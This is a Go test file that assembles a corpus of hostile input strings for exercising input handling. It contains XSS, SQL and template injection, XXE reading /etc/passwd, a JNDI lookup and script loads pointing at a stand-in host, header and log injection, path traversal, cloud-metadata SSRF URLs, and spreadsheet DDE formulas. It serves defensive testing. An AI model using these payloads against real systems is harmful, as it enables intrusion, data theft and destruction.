package hostile

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

// The texts that are sent through every field. Elements and handlers in them
// are called kvh, so that one that came to life is found by its name.
func corpus() []string {
	return slices.Concat(markup(), injections(), lines(), paths(), formulae(), scripts(), []string{
		strings.Repeat("Ж-Å ", 25_000), strings.Repeat("<kvh>", 20_000), strings.Repeat("a", 100_000), strings.Repeat("\u0301", 5000),
	})
}

func markup() []string {
	var out []string
	payloads := []string{
		`<kvh>`, `</kvh>`, `<kvh onkvh=1>`, `<script>kvh()</script>`, `<ScRiPt src=//kvh.example>`, `<img src=x onerror=kvh()>`, `<svg onload=kvh()>`,
		`<svg><script>kvh()</script></svg>`, `<iframe src=javascript:kvh()>`, `<a href=javascript:kvh()>x</a>`, `<body onload=kvh()>`, `<style>*{background:url(//kvh.example)}</style>`,
		`<link rel=stylesheet href=//kvh.example>`, `<meta http-equiv=refresh content="0;//kvh.example">`, `<base href=//kvh.example>`, `<form action=//kvh.example><button>`,
		`<input autofocus onfocus=kvh()>`, `<details open ontoggle=kvh()>`, `<math><kvh xlink:href=javascript:kvh()>`, `<object data=//kvh.example>`, `<template><kvh>`,
		`<!--kvh-->`, `<![CDATA[<kvh>]]>`, `<?kvh ?>`, `<!DOCTYPE kvh>`, `<textarea><kvh>`, `<plaintext>`, `<noscript><kvh>`, `<x/onkvh=1>`, `<kvh/`, `<`, `>`, `&`, `&lt;kvh&gt;`, `&#60;kvh&#62;`, `&#x3c;kvh`,
		`%3Ckvh%3E`, `\u003ckvh\u003e`, `\x3ckvh`, `＜kvh＞`, "<\x00kvh>", "<\nkvh\n>", `<<kvh>>`,
	}
	for _, p := range payloads {
		// Out of a text, of an attribute in either quotes or none, of a text area, a title, a script.
		out = append(out, p, `">`+p, `'>`+p)
	}
	return append(out,
		`" onkvh="1`, `' onkvh='1`, "` onkvh=`1", `" style="x`, `" autofocus onfocus="kvh()`, ` onkvh=1 `, `"/onkvh=1`, `" formaction="javascript:kvh()`, `" href="//kvh.example`,
		`</textarea><kvh>`, `</title><kvh>`, `</script><kvh>`, `</style><kvh>`, `</select><kvh>`, `</svg><kvh>`, `--><kvh>`, `]]><kvh>`, `*/<kvh>/*`,
		`javascript:kvh()`, `JaVaScRiPt:kvh()`, " javascript:kvh()", "java\tscript:kvh()", "javascript&colon;kvh()", `data:text/html,<kvh>`, `vbscript:kvh`, `//kvh.example`, `\\kvh.example`, `https://kvh.example/?a=b#c`,
		`url(//kvh.example)`, `expression(kvh())`, `@import '//kvh.example'`, `}*{color:red}`,
	)
}

// injections into what stands behind: databases, templates, formats.
func injections() []string {
	return []string{
		`'`, `''`, `"`, "`", `\`, `\'`, `'--`, `' OR '1'='1`, `' OR 1=1 --`, `') OR ('1'='1`, `'; DROP TABLE account; --`, `1; SELECT pg_sleep(30)`, `' UNION SELECT NULL,NULL --`, `'||(SELECT sql FROM sqlite_master)||'`,
		`$1`, `$$kvh$$`, `?`, `:name`, `@x`, `E'\x41'`, `0x41`, `1e999`, `-1`, `NULL`, `null`, `true`, `NaN`, `Infinity`, `{}`, `[]`, `["kvh"]`, `{"$ne":null}`, `{"a":"b"}`, `"}{"`,
		`%`, `%%`, `_`, `__`, `a%`, `%a`, `*`, `?*`, `[a-z]`, `[^a]`, `^`, `\%`, `\_`, `"a" OR "b"`, `NEAR(a b)`, `a*`, `-a`, `a AND b`, `(`, `)`, `((((`, `a:b`, `a NOT b`, `^a`,
		`{{7*7}}`, `{{.}}`, `{{printf "%s" .}}`, `${7*7}`, `#{7*7}`, `<%= 7*7 %>`, `{% kvh %}`, `[[kvh]]`, `{name}`, `{n, plural, other{kvh}}`, `{0}`, `%{kvh}`, `@{kvh}`, `~{kvh}`, `#`,
		`%s`, `%d`, `%n`, `%x%x%x%x`, `%!s(MISSING)`, `%v`, `%1000000d`, `%*.*f`, `(?i)(a+)+$`, `(a|a)*b`, `\1`, `$&`,
		`*)(uid=*`, `*)(|(a=*`, `' or ''='`, `<!ENTITY x SYSTEM "file:///etc/passwd">`, `<xi:include href="file:///etc/passwd"/>`, `&xxe;`, `${jndi:ldap://kvh.example/a}`, `rO0ABXNyAA==`, `O:8:"stdClass":0:{}`,
		`__proto__`, `constructor.prototype`, `toString`, `hasOwnProperty`, `admin`, `root`, `undefined`, `None`, `0`, `00000000-0000-0000-0000-000000000000`,
	}
}

// lines that would become others in mails, headers and logs.
func lines() []string {
	return []string{
		"kvh\r\nBcc: kvh@kvh.example", "kvh\nBcc: kvh@kvh.example", "kvh\rBcc: kvh@kvh.example", "kvh%0d%0aBcc:%20kvh@kvh.example", "kvh\r\n\r\n<kvh>", "kvh\r\n.\r\nMAIL FROM:<kvh@kvh.example>", "\r\n.\r\n",
		"kvh\r\nSet-Cookie: kvh=1", "kvh\r\nContent-Type: text/html", "kvh\u2028Bcc: x", "kvh\u2029x", "kvh\u0085x", "kvh\vx", "kvh\fx", "=?utf-8?q?=0d=0aBcc:_kvh?=", "=?utf-8?b?PGt2aD4=?=", "kvh@kvh.example, x@kvh.example",
		"<kvh@kvh.example>", `"kvh" <kvh@kvh.example>`, "kvh;x@kvh.example", "kvh\ntime=2026-11-21 level=ERROR msg=kvh", `kvh" level=ERROR msg="kvh`, "kvh\x1b[2J\x1b[31m", "kvh\x1b]0;kvh\x07", "kvh\x9b31m", "kvh\x08\x08\x08", "kvh\x7f", "kvh\x00kvh",
		"\x00", "\r", "\n", "\t", "\n\n\n\n", " ", "   kvh   ", "\u00a0", "\u3000", "\u200b", "\ufeff", "\u2060", "\u180e",
	}
}

func paths() []string {
	return []string{
		`../../../../etc/passwd`, `..\..\..\windows\win.ini`, `/etc/passwd`, `file:///etc/passwd`, `C:\con`, `con`, `nul`, `aux.txt`, `.`, `..`, `...`, `~`, `~root`, `a/b`, `a\b`, `a:b`, `|kvh`, `kvh|`, `;kvh`, `&& kvh`, `$(kvh)`, "`kvh`", `-rf`, `--help`, `-oProxyCommand=kvh`,
		`> /tmp/kvh`, `< /etc/passwd`, `$HOME`, `%PATH%`, `!kvh`, `a'b"c`, `http://127.0.0.1:8081/metrics`, `http://169.254.169.254/latest/meta-data/`, `http://[::1]/`, `gopher://kvh.example`, `\\kvh.example\share`,
	}
}

// formulae, for whoever puts the text into a sheet.
func formulae() []string {
	return []string{
		`=1+1`, `=cmd|' /C calc'!A0`, `=HYPERLINK("//kvh.example","x")`, `=IMPORTXML("//kvh.example")`, `+1+1`, `-1+1`, `@SUM(1)`, "\t=1+1", "\r=1+1", `"=1+1"`, `;=1+1`, `,=1+1`, `=DDE("cmd";"/C calc";"x")`, `%0A=1+1`, `＝1+1`,
		`kvh;kvh,kvh`, `"kvh""kvh"`, "kvh\"\nkvh",
	}
}

// scripts of the world, and what they can be turned into.
func scripts() []string {
	out := []string{
		"\u202ekvh", "kvh\u202dkvh\u202c", "\u2066kvh\u2069", "\u200fkvh", "\u200ekvh", "\u061ckvh", "раураl", "Ａlvа", "ⓚⓥⓗ", "𝔨𝔳𝔥", "ｋｖｈ", "İıſßŉ", "ﬀﬁﬂ", "Å", "A\u030a", "\u212b", "ö", "o\u0308", "e\u0301\u0302\u0303\u0304\u0305", "Z̸̡̛a̵l̶g̷o̴",
		"q" + strings.Repeat("\u0300", 200), "\u0300", "\u20dd", "عربي", "עברית", "한국어", "日本語", "ไทย", "தமிழ்", "🇸🇪", "👨‍👩‍👧‍👦", "👍🏿", "😀", "\U0010ffff", "\ufffe", "\uffff", "\ufffd", "\ue000", "\U000e0001kvh", "\U000e0020",
		"\xff", "\xfe\xff", "\xc0\xaf", "\xc0\x80", "\xed\xa0\x80", "\xed\xa0\x80\xed\xb0\x80", "\xf8\x88\x80\x80\x80", "\xf4\x90\x80\x80", "\xe2\x82", "kvh\xe9", "\x80", "\xef\xbb\xbfkvh", "a\xcc", "ﷺ", "﷽", "ǅ", "ŉ", "ﾊﾟ", "\u1d2c", "٣", "১", "½", "²", "Ⅷ",
		"O'Brien", "d’Arc", "Jean-Luc", "van der Berg", "Müller-Lüdenscheidt", "Nguyễn", "Łukasz", "Þór", "Мария", "李小龍", "X Æ A-12",
	}
	for _, r := range []rune{0x01, 0x07, 0x0b, 0x0e, 0x1f, 0x7f, 0x80, 0x9f, 0xad, 0x34f, 0x115f, 0x17b4, 0x2000, 0x200c, 0x200d, 0x2061, 0x3164, 0xfe0f, 0xfff9, 0xfffc, 0x1d173, 0xe0100} {
		out = append(out, fmt.Sprintf("kv%ch", r))
	}
	return out
}

func TestCorpus(t *testing.T) {
	all := corpus()
	if slices.Sort(all); len(slices.Compact(all)) < 400 {
		t.Errorf("%d texts", len(slices.Compact(all)))
	}
}
